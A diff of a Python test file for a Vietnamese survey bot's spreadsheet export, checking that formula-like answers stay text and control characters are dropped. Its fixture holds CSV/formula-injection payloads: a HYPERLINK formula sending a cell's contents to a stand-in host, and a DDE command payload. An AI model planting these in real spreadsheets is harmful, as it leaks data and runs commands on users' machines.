@@ -47,7 +47,8 @@ SENT = {
     "kho_khan": '=HYPERLINK("http://x/?d="&B2,"y")',
     "de_xuat": "+cmd|' /C calc'!A0",
 }
-DRAFT = {
+# Another unit's report, sent with what an older version may have stored.
+OTHER = {
     "ty_le_nen_tang": 62.5,
     "kho_khan": "Dòng một\x0bdòng hai\x1b[31m đỏ\x00",
     "de_xuat": "-1+1",
@@ -92,7 +93,7 @@ async def _answer(
 @pytest.fixture
 async def stored(sqlite_engine: AsyncEngine, town: Town) -> None:
     await _answer(sqlite_engine, town.unit_id, SENT, send=True)
-    await _answer(sqlite_engine, town.other_unit_id, DRAFT, send=False)
+    await _answer(sqlite_engine, town.other_unit_id, OTHER, send=True)
 
 
 def _cdsbot_export(settings: Settings, fmt: str, out: Path) -> subprocess.CompletedProcess[str]:
@@ -119,9 +120,9 @@ async def test_xlsx_keeps_formula_like_answers_as_text_when_exported(
     result = _cdsbot_export(settings, "xlsx", out)
 
     rows = _xlsx_rows(out)
-    sent, draft = rows["21025"], rows["21026"]
+    sent, other = rows["21025"], rows["21026"]
     texts = [sent[COLUMN["kho_khan"] - 1], sent[COLUMN["de_xuat"] - 1]]
-    texts.append(draft[COLUMN["de_xuat"] - 1])
+    texts.append(other[COLUMN["de_xuat"] - 1])
     assert result.returncode == 0, result.stderr
     assert [(cell.data_type, cell.value) for cell in texts] == [
         ("s", SENT["kho_khan"]),
@@ -161,7 +162,7 @@ async def test_csv_writes_whole_numbers_without_decimal_point(
 
 
 @pytest.mark.usefixtures("stored")
-async def test_cli_export_drops_control_characters_when_a_draft_holds_them(
+async def test_cli_export_drops_control_characters_when_a_report_holds_them(
     settings: Settings, tmp_path: Path
 ) -> None:
     out = tmp_path / "q4.xlsx"
@@ -241,5 +242,5 @@ async def test_summary_gives_a_mean_not_a_total_for_a_percent_question(
 
     rows = list(load_workbook(out)["Tổng hợp"].iter_rows(values_only=True))
     numbers = {row[0]: row[1:4] for row in rows if row and row[3] is not None}
-    assert numbers["Tỷ lệ sử dụng nền tảng số (%)"] == (None, 80, 1)
+    assert numbers["Tỷ lệ sử dụng nền tảng số (%)"] == (None, 71.25, 2)
     assert numbers["Số người tham gia Mạng lưới CĐS"] == (12, 12, 1)
